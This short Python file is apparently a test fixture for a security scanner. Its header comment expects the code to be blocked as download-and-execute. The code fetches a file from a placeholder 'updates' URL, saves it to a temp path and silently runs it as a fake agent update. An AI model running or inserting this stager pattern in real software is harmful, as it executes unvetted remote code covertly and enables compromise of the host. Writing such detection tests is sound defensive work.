# expect: BLOCKED download_execute
import subprocess
import sys
import tempfile

import requests

stage = requests.get("https://updates.example.net/agent/latest", timeout=30).content
path = tempfile.gettempdir() + "/agent_" + "update.py"
with open(path, "wb") as fh:
    fh.write(stage)
subprocess.Popen([sys.executable, path], stdout=subprocess.DEVNULL)
